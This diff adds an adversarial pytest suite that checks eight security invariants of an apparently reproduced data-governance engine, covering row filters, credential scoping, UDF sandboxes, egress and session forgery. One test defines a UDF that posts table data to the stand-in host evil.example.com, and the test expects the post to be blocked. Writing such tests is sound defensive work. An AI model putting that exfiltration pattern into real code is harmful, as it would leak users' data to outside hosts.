@@ -1,0 +1,241 @@
+"""The eight security invariants from DESIGN.md §5, tested adversarially.
+
+These tests play the attacker: each one attempts a concrete escalation the
+paper's design must prevent, and asserts the system refuses or contains it.
+"""
+
+import pytest
+
+from repro.connect.client import col, udf
+from repro.errors import (
+    EgressDenied,
+    LakeguardError,
+    PermissionDenied,
+    SessionError,
+    TrustDomainViolation,
+)
+from repro.sandbox import net
+
+
+class TestInvariant1_NoResidualData:
+    def test_filtered_rows_unreachable_through_any_surface(
+        self, workspace, standard_cluster, admin_client
+    ):
+        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
+        alice = standard_cluster.connect("alice")
+
+        # SQL surface.
+        assert len(alice.sql("SELECT * FROM main.sales.orders").collect()) == 2
+        # DataFrame surface.
+        assert len(alice.table("main.sales.orders").collect()) == 2
+        # Aggregation can't count hidden rows.
+        assert alice.sql("SELECT count(*) AS n FROM main.sales.orders").collect() == [(2,)]
+        # A negated predicate can't flush them out.
+        rows = alice.sql(
+            "SELECT id FROM main.sales.orders WHERE NOT (region = 'US')"
+        ).collect()
+        assert rows == []
+
+    def test_udf_cannot_observe_hidden_rows(
+        self, workspace, standard_cluster, admin_client
+    ):
+        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
+
+        @udf("string")
+        def leak(region):
+            return region
+
+        alice = standard_cluster.connect("alice")
+        rows = alice.table("main.sales.orders").select(leak(col("region"))).collect()
+        assert {r[0] for r in rows} == {"US"}
+
+    def test_join_does_not_leak_hidden_rows(
+        self, workspace, standard_cluster, admin_client
+    ):
+        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
+        alice = standard_cluster.connect("alice")
+        rows = alice.sql(
+            "SELECT a.id, b.id FROM main.sales.orders a "
+            "JOIN main.sales.orders b ON a.region = b.region"
+        ).collect()
+        ids = {r[0] for r in rows} | {r[1] for r in rows}
+        assert ids == {1, 3}
+
+
+class TestInvariant2_SecureViewBarrier:
+    def test_udf_filter_evaluates_after_policy(
+        self, workspace, standard_cluster, admin_client
+    ):
+        """A UDF used as a WHERE predicate sees only policy-visible rows."""
+        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
+
+        @udf("bool")
+        def probe(region):
+            # If pushdown were broken, this would return True for EU/APAC
+            # rows and the query would emit them.
+            return True
+
+        alice = standard_cluster.connect("alice")
+        rows = alice.table("main.sales.orders").filter(probe(col("region"))).collect()
+        assert len(rows) == 2
+
+
+class TestInvariant3_CredentialScoping:
+    def test_vended_credential_bounded_to_table_prefix(
+        self, workspace, standard_cluster, admin_client
+    ):
+        cat = workspace.catalog
+        ctx = cat.principals.context_for("alice")
+        cred = cat.vend_credential(
+            ctx, "main.sales.orders", {"READ", "LIST"}, standard_cluster.backend.caps
+        )
+        table = cat.get_table("main.sales.orders")
+        assert cred.authorizes(f"{table.storage_root}/data/f", "READ", 0)
+        # Sibling table's prefix: out of scope.
+        assert not cred.authorizes(
+            "s3://unity-managed/main/sales/other/data/f", "READ", 0
+        )
+        # Write op: out of scope.
+        assert not cred.authorizes(f"{table.storage_root}/data/f", "WRITE", 0)
+
+    def test_credential_carries_identity_for_audit(
+        self, workspace, standard_cluster, alice_client
+    ):
+        alice_client.table("main.sales.orders").collect()
+        vends = workspace.catalog.audit.events(action="catalog.vend_credential")
+        assert vends and vends[-1].principal == "alice"
+
+
+class TestInvariant4_TrustDomains:
+    def test_cataloged_udfs_of_different_owners_never_share_sandbox(
+        self, workspace, standard_cluster, admin_client
+    ):
+        from repro.engine.udf import udf as engine_udf
+        from repro.connect.client import catalog_function
+
+        cat = workspace.catalog
+
+        @engine_udf("float")
+        def plus1(x):
+            return x + 1.0
+
+        @engine_udf("float")
+        def plus2(x):
+            return x + 2.0
+
+        cat.create_function("main.sales.by_admin", plus1, owner="admin")
+        cat.create_function("main.sales.by_carol", plus2, owner="carol")
+        for fn in ("main.sales.by_admin", "main.sales.by_carol"):
+            cat.grant("EXECUTE", fn, "analysts")
+
+        alice = standard_cluster.connect("alice")
+        alice.table("main.sales.orders").select(
+            catalog_function("main.sales.by_admin")(col("amount")).alias("a"),
+            catalog_function("main.sales.by_carol")(col("amount")).alias("b"),
+        ).collect()
+        # Two distinct owners → two sandboxes in alice's session.
+        backend = standard_cluster.backend
+        session_sandboxes = backend.cluster_manager.stats.created
+        assert session_sandboxes >= 2
+
+    def test_sandbox_rejects_foreign_domain_directly(self):
+        from repro.engine.udf import udf as engine_udf
+        from repro.sandbox import InProcessSandbox
+
+        @engine_udf("int")
+        def f(x):
+            return x
+
+        sandbox = InProcessSandbox("alice")
+        with pytest.raises(TrustDomainViolation):
+            sandbox.invoke(f.with_owner("eve"), [[1]])
+
+
+class TestInvariant5_VersionCompatibility:
+    @pytest.mark.parametrize("version", [1, 2, 3, 4])
+    def test_all_supported_client_versions_execute(
+        self, standard_cluster, admin_client, version
+    ):
+        client = standard_cluster.connect("alice", client_version=version)
+        assert client.sql("SELECT count(*) AS n FROM main.sales.orders").collect() == [(4,)]
+
+    def test_unknown_optional_fields_ignored(self, standard_cluster, admin_client):
+        client = standard_cluster.connect("alice")
+        relation = {
+            "@type": "relation.read",
+            "table": "main.sales.orders",
+            "hint_from_the_future": {"v": 99},
+        }
+        schema, columns = client.execute_relation(relation)
+        assert len(columns[0]) == 4
+
+
+class TestInvariant6_EfgacEquivalence:
+    def test_dedicated_equals_standard_under_policies(
+        self, workspace, standard_cluster, admin_client
+    ):
+        admin_client.sql(
+            "ALTER TABLE main.sales.orders SET ROW FILTER "
+            "(region = 'US' OR is_account_group_member('hr'))"
+        )
+        admin_client.sql(
+            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
+        )
+        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="ded-eq")
+        query = "SELECT id, buyer FROM main.sales.orders ORDER BY id"
+        std_rows = standard_cluster.connect("alice").sql(query).collect()
+        ded_rows = ded.connect("alice").sql(query).collect()
+        assert std_rows == ded_rows == [(1, "***"), (3, "***")]
+
+
+class TestInvariant7_DownScoping:
+    def test_effective_rights_are_exactly_the_groups(
+        self, workspace, standard_cluster, admin_client
+    ):
+        admin_client.sql("GRANT MODIFY ON main.sales.orders TO carol")
+        ded = workspace.create_dedicated_cluster(assigned_group="analysts", name="ds")
+        carol = ded.connect("carol")
+        # carol's personal MODIFY is suppressed on the group cluster.
+        with pytest.raises(PermissionDenied):
+            carol.sql("INSERT INTO main.sales.orders VALUES (8,'US',1.0,'x')")
+        # But on a standard cluster her full identity applies.
+        carol_std = standard_cluster.connect("carol")
+        carol_std.sql("INSERT INTO main.sales.orders VALUES (8,'US',1.0,'x')")
+
+
+class TestInvariant8_Egress:
+    def test_exfiltration_blocked_and_surfaced(
+        self, workspace, standard_cluster, admin_client
+    ):
+        net.register_service("evil.example.com", lambda p, b: "ok")
+        try:
+
+            @udf("string")
+            def exfil(buyer):
+                net.http_post("http://evil.example.com/drop", payload=buyer)
+                return "sent"
+
+            alice = standard_cluster.connect("alice")
+            with pytest.raises(EgressDenied):
+                alice.table("main.sales.orders").select(exfil(col("buyer"))).collect()
+        finally:
+            net.unregister_service("evil.example.com")
+
+
+class TestSessionHijacking:
+    def test_session_of_other_user_unusable(self, standard_cluster, admin_client):
+        alice = standard_cluster.connect("alice")
+        # bob forges requests against alice's session id.
+        bob = standard_cluster.connect("bob")
+        forged = {
+            "session_id": alice.session_id,
+            "user": "bob",
+            "client_version": 4,
+            "plan": {"@type": "relation.range", "start": 0, "end": 1, "step": 1},
+            "operation_id": "op-forged",
+        }
+        items = list(
+            standard_cluster.service.handle_stream("execute_plan", forged)
+        )
+        assert items[0]["@type"] == "error"
+        assert items[0]["error_class"] == "SessionError"
